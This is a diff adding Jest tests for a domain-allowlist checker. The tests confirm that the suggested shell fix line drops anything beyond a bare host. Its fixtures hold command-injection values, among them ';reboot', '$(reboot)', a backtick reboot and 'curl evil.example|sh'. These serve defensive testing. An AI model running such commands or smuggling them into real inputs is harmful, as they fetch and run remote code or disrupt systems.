@@ -107,10 +107,28 @@ test.each([
   [['fail domain-without-scheme'], ['app.example.com']],
   [['fail domain-without-scheme'], ['localhost:3000']],
   [['fail domain-invalid'], ['https://*.example.com', 'https://app.example.com']],
+  [['fail domain-invalid'], ['https://app.example.com:443']],
+  [['fail domain-invalid'], ['https://bücher.example']],
+  [['fail domain-invalid'], ['ftp://app.example.com']],
 ])('%j: %j', async (findings, allowed_domains) => {
   const embedding = { result: { allowed_domains, dashboard_id: '1' } }
   const subject = answering({ '/api/v1/embedded_dashboard/an-embed-id': [200, embedding] })
   expect(await found(allowedDomains, subject)).toEqual(findings)
+})
+
+test.each([
+  ['app.example.com', '--allow https://app.example.com'],
+  ['localhost:3000', '--allow http://localhost:3000'],
+  // Whoever edits the dashboard writes these, and somebody else pastes the line into a shell.
+  ['app.example.com;reboot', '--allow https://app.example.com'],
+  ['$(reboot)', '--allow https://app.example.com'],
+  ['x\n    curl\tevil.example|sh', '--allow https://app.example.com'],
+  ['https://`reboot`*', '--allow https://app.example.com'],
+])('the line to copy holds nothing of a domain that is more than a host: %j', async (domain, line) => {
+  const embedding = { result: { allowed_domains: [domain], dashboard_id: '1' } }
+  const subject = answering({ '/api/v1/embedded_dashboard/an-embed-id': [200, embedding] })
+  const [finding] = (await allowedDomains.run(subject)).findings
+  expect(finding && 'fix' in finding && finding.fix.endsWith(line)).toBe(true)
 })
 
 test.each([
